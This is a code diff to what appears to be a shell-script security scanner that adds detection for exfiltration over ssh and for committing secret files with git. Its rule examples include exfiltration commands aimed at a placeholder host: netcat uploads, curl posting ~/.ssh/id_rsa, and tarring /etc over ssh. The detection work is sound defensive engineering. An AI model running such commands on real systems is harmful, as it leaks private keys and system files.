@@ -10,6 +10,7 @@ from engine.analysis.shell.declare import HIGH, LOW, MEDIUM, SECRETS, found, rul
 from engine.analysis.shell.flow import before
 from engine.analysis.shell.model import Arg, Command, Script
 from engine.analysis.shell.values import UNKNOWN
+from engine.analysis.shell.working_folder import resolved
 from engine.models import Violation
 
 UPLOAD = rule(
@@ -31,6 +32,8 @@ UPLOAD = rule(
         "nc x.test 99 < data.txt",
         "curl -T a.txt ftp://x.test",
         'curl -d "$(cat ~/.ssh/id_rsa)" http://x.test',
+        "(cd /etc && tar cz .) | ssh u@x.test 'cat > a'",
+        "git add -f .env",
     ),
     not_match=(
         "curl -d 'a=1' http://localhost/x",
@@ -128,9 +131,28 @@ def check(script: Script) -> Iterator[Violation]:
     """Yield copies to other machines."""
     for command in script.named(*_COPIERS):
         yield from _copy(command)
+    for command in script.named("ssh"):
+        if command.upstream and any(_reads_private(script, other) for other in before(command)):
+            yield found(UPLOAD, command)
+    for command in script.named("git"):
+        if command.words[:1] == ["add"] and any(paths.is_credential(arg.text) for arg in command.operands):
+            yield found(UPLOAD, command, "Commits secrets", HIGH)
     for command in script.named("aws", "gsutil"):
         if {"cp", "sync", "mv"} & set(command.words):
             yield found(COPY, command)
+
+
+def _reads_private(script: Script, command: Command) -> bool:
+    """Return whether a command packs or prints files of the system or of people."""
+    named = [resolved(script, command, arg.text) for arg in command.operands]
+    folder = command.option("-C", "--directory")
+    named += [folder.text] if folder is not None else []
+    return command.name in _LOOT and any(
+        (paths.is_system(path) and not paths.is_harmless_read(path))
+        or paths.is_credential(path)
+        or path == "~"
+        for path in named
+    )
 
 
 def sends(command: Command) -> bool:
